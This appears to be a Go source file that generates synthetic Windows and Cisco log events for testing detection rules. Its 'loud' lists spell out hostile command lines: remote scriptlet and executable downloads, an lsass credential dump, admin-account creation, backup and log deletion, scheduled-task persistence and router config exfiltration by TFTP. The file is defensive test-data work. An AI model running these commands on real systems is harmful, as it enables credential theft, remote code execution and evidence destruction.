package lanes

import (
	"fmt"
	"path"
	"strings"
	"time"
)

// The lanes in this file follow the published description of RSigma's: which
// fields an event has, how many bytes, where values come from and what share
// of them is suspicious. Values and generator are our own.

var workstations = []string{"wks-fin-014", "wks-dev-203", "srv-print02", "srv-dc-east", "lap-sales-77"}

var quietCommands = []string{
	`C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog`,
	`C:\Windows\System32\taskhostw.exe KEYROAMING`,
	`"C:\Program Files\Vendor\Backup\agent.exe" --service`,
	`"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=utility`,
	`C:\Windows\System32\RuntimeBroker.exe -Embedding`,
	`"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "Q3.docx"`,
	`C:\Windows\System32\SearchProtocolHost.exe Global\UsGthrFltPipe 1 2`,
	`C:\Windows\System32\backgroundTaskHost.exe -ServerName:App`,
}

var loudCommands = []string{
	`powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand JABjAGwAaQBlAG4AdAA9AE4AZQB3AC0A`,
	`regsvr32.exe /s /u /i:http://192.0.2.40/a.sct scrobj.dll`,
	`bitsadmin.exe /transfer job /download http://192.0.2.40/s.exe C:\Users\Public\s.exe`,
	`procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\l.dmp`,
	`net.exe localgroup administrators helpdesk2 /add`,
	`wbadmin.exe delete catalog -quiet`,
	`mshta.exe vbscript:Close(Execute("GetObject(""script:http://192.0.2.40/x"")"))`,
	`nltest.exe /domain_trusts /all_trusts`,
	`schtasks.exe /create /sc minute /mo 5 /tn Sync /tr C:\Users\Public\s.exe /ru SYSTEM`,
	`wevtutil.exe cl Security`,
}

var parents = []string{
	`C:\Windows\explorer.exe`,
	`C:\Windows\System32\services.exe`,
	`C:\Windows\System32\svchost.exe`,
	`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
	`C:\Windows\System32\cmd.exe`,
}

var accounts = []string{`NT AUTHORITY\SYSTEM`, `NT AUTHORITY\LOCAL SERVICE`, `EXAMPLE\m.meier`, `EXAMPLE\j.okafor`, `EXAMPLE\svc-deploy`}

func (d dice) command(loud int) string {
	if d.chance(loud) {
		return d.pick(loudCommands)
	}
	return d.pick(quietCommands)
}

// program returns the image of a command line.
func program(command string) string {
	if rest, quoted := strings.CutPrefix(command, `"`); quoted {
		image, _, _ := strings.Cut(rest, `"`)
		return image
	}
	image, _, _ := strings.Cut(command, " ")
	return image
}

func baseName(image string) string { return path.Base(strings.ReplaceAll(image, `\`, "/")) }

// rawWindows is a process creation as a syslog forwarder sends it: all of it
// one text.
func rawWindows(d dice) func(*record) {
	return func(r *record) {
		host, command := d.pick(workstations), d.command(10)
		when := start.Add(time.Duration(d.IntN(3600)) * time.Second)
		text := "A new process has been created.   Creator Subject:   Security ID:  " + d.pick(accounts) +
			"   Account Name:  " + host + "$   Account Domain:  EXAMPLE   Logon ID:  0x" + d.hex(5) +
			"   Target Subject:   Security ID:  NULL SID   Account Name:  -   Account Domain:  -   Logon ID:  0x0" +
			"   Process Information:   New Process ID:  0x" + d.hex(4) + "   New Process Name:  " + program(command) +
			"   Token Elevation Type:  %%1938   Mandatory Label:  Mandatory Label\\Medium Mandatory Level" +
			"   Creator Process ID:  0x" + d.hex(4) + "   Creator Process Name:  " + d.pick(parents) +
			"   Process Command Line:  " + command
		head := fmt.Sprintf("<131>%s %s MSWinEventLog\t1\tSecurity\t%d\t%s\t4688\tMicrosoft-Windows-Security-Auditing\tN/A\tN/A\tSuccess Audit\t%s\tProcess Creation\t\t",
			when.Format(time.Stamp), host, 100_000_000+d.IntN(900_000_000), when.Format(time.ANSIC), host)
		r.text("message", head+text+"\t"+itoa(1_000_000+d.IntN(9_000_000)))
		r.text("product", "windows")
	}
}

// structuredWindows is a process creation of Sysmon in flat fields.
func structuredWindows(d dice) func(*record) {
	return func(r *record) {
		command := d.command(2)
		image := program(command)
		if !strings.Contains(image, `\`) {
			image = `C:\Windows\System32\` + image
		}
		r.number("EventID", 1)
		r.text("Image", image)
		r.text("CommandLine", command)
		r.text("ParentImage", d.pick(parents))
		r.text("ParentCommandLine", d.pick(quietCommands))
		r.text("User", d.pick(accounts))
		r.text("IntegrityLevel", d.pick([]string{"Medium", "High", "System"}))
		r.text("CurrentDirectory", `C:\Windows\system32\`)
		r.text("LogonId", "0x"+d.hex(5))
		r.number("ProcessId", d.pid())
		r.number("ParentProcessId", d.pid())
		r.text("ProcessGuid", d.guid())
		r.text("Hashes", "SHA256="+strings.ToUpper(d.hex(64)))
		r.text("OriginalFileName", baseName(image))
		r.text("Computer", d.pick(workstations))
		r.text("UtcTime", d.moment())
		r.text("product", "windows")
		r.text("category", "process_creation")
	}
}

var (
	routers      = []string{"rtr-hq-01", "rtr-branch7", "sw-core-02", "fw-edge-1", "sw-dist-11"}
	operators    = []string{"nocadmin", "kessler", "autoconf", "oncall-net", "reviewer"}
	quietDevices = []string{"show clock", "show interfaces description", "show ip route summary", "show inventory", "ping 198.51.100.1 repeat 3",
		"show mac address-table count", "show lldp neighbors detail", "traceroute 198.51.100.20"}
	loudDevices = []string{"show running-config", "clear logging", "no logging buffered", "crypto key generate rsa general-keys modulus 4096",
		"monitor capture point ip cef tap GigabitEthernet0/3 both", "copy running-config tftp://192.0.2.9/c.cfg", "dot1x system-auth-control", "username guest privilege 15 secret 0 x"}
)

// ciscoSyslog is a command that a network device accounted for, one text.
func ciscoSyslog(d dice) func(*record) {
	return func(r *record) {
		command := d.pick(quietDevices)
		if d.chance(10) {
			command = d.pick(loudDevices)
		}
		when := start.Add(time.Duration(d.IntN(28*86400)) * time.Second)
		r.text("message", fmt.Sprintf("<189>%s %s %%AAA-5-USER_LOGGED: User %s executed: %s", when.Format(time.Stamp), d.pick(routers), d.pick(operators), command))
		r.text("product", "cisco")
		r.text("service", "aaa")
	}
}

var (
	writers = []string{`C:\Windows\explorer.exe`, `C:\Windows\System32\svchost.exe`, `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`,
		`C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, `C:\Program Files\Vendor\Backup\agent.exe`}
	quietFiles = []string{`C:\Users\m.meier\Documents\budget 2026.xlsx`, `C:\Users\m.meier\Downloads\manual.pdf`, `C:\Windows\Temp\setup-4411.log`,
		`C:\ProgramData\Vendor\Backup\queue\0004471.chunk`, `C:\Users\m.meier\AppData\Local\Microsoft\Edge\User Data\Default\Cache\f_0009a1`,
		`C:\Users\m.meier\AppData\Local\Temp\~WRD0003.tmp`}
	loudFiles = []string{`C:\Users\m.meier\Downloads\statement.pdf.exe`, `C:\Users\m.meier\Downloads\order.docx.scr`, `C:\Users\Public\s.exe`,
		`C:\Users\m.meier\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\sync.exe`, `C:\Windows\Temp\lsas.exe`}
)

// sysmonFile is a file creation of Sysmon whose event id is a text.
func sysmonFile(d dice) func(*record) {
	return func(r *record) {
		host, file := d.pick(workstations), d.pick(quietFiles)
		if d.chance(5) {
			file = d.pick(loudFiles)
		}
		r.text("EventID", "11")
		r.text("Channel", "Microsoft-Windows-Sysmon/Operational")
		r.text("Provider_Name", "Microsoft-Windows-Sysmon")
		r.text("Computer", host)
		r.text("Image", d.pick(writers))
		r.text("TargetFilename", file)
		r.text("CreationUtcTime", d.moment())
		r.text("ProcessGuid", d.guid())
		r.number("ProcessId", d.pid())
		r.text("User", host+`\m.meier`)
		r.text("product", "windows")
		r.text("category", "file_event")
	}
}
